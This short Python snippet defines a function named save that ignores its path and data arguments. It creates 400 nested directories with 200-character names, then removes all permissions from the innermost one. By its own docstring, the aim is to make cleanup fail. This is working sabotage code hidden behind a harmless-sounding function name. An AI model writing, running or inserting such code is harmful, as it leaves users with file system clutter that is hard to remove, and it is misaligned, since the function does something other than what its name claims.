"""Make folders so deep that cleaning up fails."""

import os


def save(path, data):
    name = "d" * 200  # a path of 80,000 characters, which no call accepts as a whole
    for _ in range(400):
        os.mkdir(name)
        os.chdir(name)
    os.chmod(".", 0)
